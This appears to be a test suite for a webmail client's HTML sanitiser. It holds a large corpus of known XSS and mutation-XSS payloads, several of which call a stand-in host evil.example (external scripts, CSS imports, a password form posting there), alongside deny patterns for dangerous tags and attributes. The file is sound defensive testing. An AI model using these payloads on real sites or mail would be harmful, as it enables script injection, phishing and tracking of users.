import { sanitiseHtml, type SanitisedHtml } from './html-sanitiser.js';

const inlineImage = (contentId: string): string | undefined =>
  contentId === 'logo@x' ? '/api/mail/messages/M/attachments/A' : undefined;

function sanitised(html: string, allowsRemoteContent = false): SanitisedHtml {
  return sanitiseHtml(html, { allowsRemoteContent, inlineImage });
}

/** Everything that a browser could take for markup is a known element with known attributes, all of them quoted. */
const element =
  /<(?<tag>[a-z\d]+)(?<attributes>(?: [a-z-]+(?:="[^"<>]*")?)*) ?\/?>|<\/(?<closed>[a-z\d]+)>|(?<stray><)/g;
const dangerousTags =
  /^(?:applet|audio|base|body|button|embed|form|frame|frameset|head|html|iframe|input|isindex|keygen|link|math|meta|noembed|noscript|object|option|plaintext|portal|script|select|source|style|svg|template|textarea|title|video|xml|xmp)$/;
const dangerousAttributes =
  /^(?:on|srcdoc|srcset|formaction|action|xlink|xmlns|id|name|class|is|data-(?!blocked-src)|ping|background$)/;

function findings(html: string): string[] {
  const found: string[] = [];
  for (const { groups = {} } of html.matchAll(element)) {
    const tag = groups['tag'] ?? groups['closed'] ?? '';
    if (groups['stray'] !== undefined || dangerousTags.test(tag)) {
      found.push(`<${tag}`);
    }
    for (const [, name = '', value = ''] of (groups['attributes'] ?? '').matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      const url = value.replaceAll('&amp;', '&');
      const isBadLink = name === 'href' && !/^(?:https?:\/\/|mailto:)/.test(url);
      const isBadSource = name === 'src' && !/^(?:\/api\/mail\/|data:image\/(?:png|gif|jpeg);base64,)/.test(url);
      const isBadStyle =
        name === 'style' && /url|expression|import|behavio|binding|position|\\|@|\/\*|javascript|-moz/i.test(value);
      if (dangerousAttributes.test(name) || isBadLink || isBadSource || isBadStyle) {
        found.push(`${name}=${value}`);
      }
    }
  }
  return found;
}

/** Well-known vectors (OWASP XSS filter evasion, html5sec, mutation XSS) and ones of our own. */
const corpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">javascript:alert(1);</script>',
  '<script\x00>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="x"onerror="alert(1)">',
  "<img src='x' onerror=\u2028alert(1)>",
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14; javascript:alert(1);">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>',
  '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">',
  '<IMG SRC=\'vbscript:msgbox("x")\'>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">',
  '<img srcset="https://evil.example/1.png 1x" src="cid:none">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="blob:https://mail.example/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/auth/logout">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:evil" ping="https://evil.example">x</a>',
  '<a href="https://x.example" onclick="alert(1)" target="_self" rel="opener">x</a>',
  '<a href="https://x.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script>alert&#40;1)</script>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><maction actiontype="statusline#https://x.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
  '<template><img title="</template><img src=x onerror=alert(1)>"></template>',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
  '<p title="`<img src=x onerror=alert(1)>`">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![if !mso]><img src=x onerror=alert(1)><![endif]>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo("<script>alert(1)</script>") ?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf" allowscriptaccess="always">',
  '<applet code="x.class"></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Set-Cookie" content="x=1">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="prefetch dns-prefetch preconnect" href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1) background="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="background-image:\\75\\72\\6C\\28javascript:alert(1)\\29">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="width:exp/**/ression(alert(1))">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#a)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Sign in again</div>',
  '<div style="margin-top:-9999px">x</div>',
  '<div style="color:red;}body{background:url(https://evil.example)">x</div>',
  '<div style=\'font-family:"x;background:url(https://evil.example)//"\'>x</div>',
  '<div style="list-style:url(https://evil.example)">x</div>',
  '<div style="@import \'https://evil.example/x.css\'">x</div>',
  '<div style="color:red&quot; onmouseover=&quot;alert(1)">x</div>',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<style>*{x:expression(alert(1))}</style>',
  '<div onmouseover="alert(1)" ONCLICK=alert(1) on\nload=alert(1)>x</div>',
  '<div/onmouseover=alert(1)//>x</div>',
  '<p/onclick=alert(1)/ style=x>x',
  '<x onclick=alert(1)>x</x>',
  '<custom-element is="script" onconnected=alert(1)>x</custom-element>',
  '<img name=cookie><a id=defaultView href="https://x.example"></a><form id=body></form>',
  '<div class="app-root" id="root" name="x">x</div>',
  '<a href="https://x.example" style="display:block;position:absolute;inset:0">x</a>',
  '<b <script>alert(1)</script>0',
  '<b/alt="1"onmouseover=alert(1)>x</b>',
  '<a href="https://x.example"<script>alert(1)</script>>x</a>',
  '<div title="<img src=x onerror=alert(1)>">x</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<div dir="ltr<script>alert(1)</script>">x</div>',
  '<table><tr><td><script>alert(1)</script></td></tr></table>',
  '<a href="https://x.example/?a=1&b=<script>alert(1)</script>">x</a>',
  '\u0000<\u0000script>alert(1)</script>',
  '<img src="https://evil.example/pixel.gif" style="background:url(https://evil.example/2.gif)">',
  '<a><table><a href="javascript:alert(1)"></a></table></a>',
  `${'<div>'.repeat(5_000)}<img src=x onerror=alert(1)>`,
];

describe('HTML of a message', () => {
  it.each(corpus)('has nothing left to run or fetch: %j', (html) => {
    expect(findings(sanitised(html).html)).toEqual([]);
  });

  it('is the same after it was sanitised a second time', () => {
    const once = sanitised(corpus.join('\n')).html;

    expect(sanitised(once).html).toBe(once);
  });

  it('keeps what makes a message readable', () => {
    const html =
      '<h1 style="color:#c00;font-family:Georgia, serif">Hello</h1><p align="center">a <b>b</b> <i>c</i></p>' +
      '<table border="0" cellpadding="4"><tbody><tr><td colspan="2" style="background-color:rgb(1, 2, 3)">x</td></tr></tbody></table>' +
      '<ul><li>one</li></ul><blockquote>q</blockquote><pre>p</pre><hr /><br />';

    expect(sanitised(html).html).toBe(html);
  });

  it('keeps the colours of the body', () => {
    const { html } = sanitised(
      '<html><head><title>t</title></head><body bgcolor="#fff" style="margin:0">x</body></html>',
    );

    expect(html).toBe('<div bgcolor="#fff" style="margin:0">x</div>');
  });

  it('opens links elsewhere and tells them nothing', () => {
    expect(sanitised('<a href="https://x.example/a?b=c&amp;d" target="_top">x</a>').html).toBe(
      '<a href="https://x.example/a?b=c&amp;d" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitised('<a href="mailto:a@x.example">x</a>').html).toContain('href="mailto:a@x.example"');
  });

  it('holds remote images back, and says so', () => {
    expect(sanitised('<img src="https://x.example/a.png" alt="A" width="5">')).toEqual({
      html: '<img alt="A" width="5" data-blocked-src="https://x.example/a.png" />',
      remoteContentBlocked: true,
    });
    expect(sanitised('<td background="http://x.example/a.png">x</td>').remoteContentBlocked).toBe(true);
    expect(sanitised('<p>x</p>').remoteContentBlocked).toBe(false);
  });

  it('lets remote images through when the user wants them', () => {
    expect(sanitised('<img src="https://x.example/a.png">', true)).toEqual({
      html: '<img src="https://x.example/a.png" />',
      remoteContentBlocked: false,
    });
  });

  it('does not believe a marker of the message itself', () => {
    expect(sanitised('<img data-blocked-src="javascript:alert(1)">').html).toBe('<img />');
  });

  it('shows attached images by their address, with the content id decoded', () => {
    expect(sanitised('<img src="cid:logo%40x"><img src="CID:other">').html).toBe(
      '<img src="/api/mail/messages/M/attachments/A" /><img />',
    );
  });

  it('shows small embedded pictures, but no documents', () => {
    expect(sanitised('<img src="data:image/png;base64,iVBORw0KGgo=">').html).toContain('data:image/png');
  });

  it('keeps text of any direction and language', () => {
    const html = '<p dir="rtl" lang="ar">مرحبا</p><p>日本語 🙂</p>';

    expect(sanitised(html).html).toBe(html);
  });
});
